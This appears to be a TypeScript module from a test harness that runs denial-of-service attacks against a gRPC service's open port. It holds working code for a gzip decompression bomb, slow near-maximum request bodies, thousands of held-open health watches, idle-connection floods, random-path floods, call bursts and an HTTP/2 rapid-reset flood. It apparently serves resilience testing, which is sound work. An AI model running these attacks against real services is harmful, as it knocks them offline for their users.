import { randomBytes } from "node:crypto";
import { type ClientHttp2Stream, constants } from "node:http2";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { frameBefore } from "../clients/grpc-frame.ts";
import { type Attack, everySecond, keepDoing } from "./attack.ts";
import { grpcHeaders, keepCalling, keepOpen, openAttackLines, untilClosed } from "./attack-lines.ts";

const healthCheck = "/grpc.health.v1.Health/Check";
const emptyFrame = frameBefore(Buffer.alloc(0), Buffer.alloc(0));
const messageMaxBytes = 4 * 2 ** 20;
/** The connection preface (https://www.rfc-editor.org/rfc/rfc9113#section-3.4) and an empty SETTINGS frame. */
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", "latin1");

/** A gRPC message of 4 KB that inflates to 4 MB of unknown fields. */
function inflatingFrame(): Buffer {
  // Field 15 with a varint of 0: two bytes each.
  const packed = gzipSync(Buffer.alloc(messageMaxBytes - 1024, Buffer.from([0x78, 0x00])));
  const head = Buffer.alloc(5);
  head[0] = 1;
  head.writeUInt32BE(packed.length, 1);
  return Buffer.concat([head, packed]);
}

/** Attacks that anybody can make who reaches the port. */
export const attacksWithoutToken: readonly Attack[] = [
  {
    id: "health-inflate",
    title: "5 health checks a second of 4 KB that inflate to 4 MB",
    async run(target, signal) {
      const lines = openAttackLines(target, signal);
      const frame = inflatingFrame();
      const headers = { ...grpcHeaders(healthCheck), "grpc-encoding": "gzip" };
      await everySecond(signal, () => Promise.all([0, 1, 2, 3, 4].map((index) => lines.call(index, headers, frame))));
    },
  },
  {
    id: "health-bodies",
    title: "300 health checks on one connection, 4 MiB each but for the last byte",
    async run(target, signal) {
      const head = emptyFrame.subarray(0, 1);
      const length = Buffer.alloc(4);
      length.writeUInt32BE(messageMaxBytes);
      const piece = Buffer.alloc(256 * 1024);
      const begin = (stream: ClientHttp2Stream) => {
        stream.resume();
        stream.write(Buffer.concat([head, length]));
        for (let sent = piece.length; sent < messageMaxBytes; sent += piece.length) stream.write(piece);
        stream.write(piece.subarray(1));
      };
      await keepOpen(target, signal, { width: 300, connections: 1, headers: grpcHeaders(healthCheck), begin });
    },
  },
  {
    id: "health-watch",
    title: "5,000 watches of the health on ten connections",
    run: (target, signal) =>
      keepOpen(target, signal, {
        width: 5000,
        connections: 10,
        headers: grpcHeaders("/grpc.health.v1.Health/Watch"),
        begin: (stream) => stream.resume().end(emptyFrame),
      }),
  },
  {
    id: "idle",
    title: "9,000 HTTP/2 connections that say nothing",
    async run(target, signal) {
      const lines = openAttackLines(target, signal);
      await keepDoing(9000 * target.scale, signal, async () => {
        const socket = lines.openSocket();
        socket.resume();
        socket.write(preface);
        await untilClosed(socket);
        // A scanner comes back about this often.
        await delay(1000);
      });
    },
  },
  {
    id: "links",
    title: "5,000 links that are not there, in flight at any time",
    run: (target, signal) =>
      keepCalling(target, signal, {
        width: 5000,
        connections: 50,
        toCall: () => ({ headers: { ":method": "GET", ":path": `/l/${randomBytes(32).toString("base64url")}` } }),
      }),
  },
  {
    id: "health-burst",
    title: "10,000 health checks at once on one connection, again and again",
    async run(target, signal) {
      const lines = openAttackLines(target, signal);
      const burst = Array.from({ length: Math.round(10_000 * target.scale) });
      await keepDoing(1, signal, async () => {
        await Promise.allSettled(burst.map(() => lines.call(0, grpcHeaders(healthCheck), emptyFrame)));
      });
    },
  },
  {
    id: "rapid-reset",
    title: "2,000 gRPC calls a second that are reset at once",
    async run(target, signal) {
      const lines = openAttackLines(target, signal);
      await keepDoing(1, signal, async () => {
        for (let call = 0; call < 100; call++) {
          const stream = lines.open(0, grpcHeaders("/sluice.v1.FileQueryService/GetFile"));
          stream.end(emptyFrame);
          stream.close(constants.NGHTTP2_CANCEL);
        }
        await delay(50);
      });
    },
  },
];
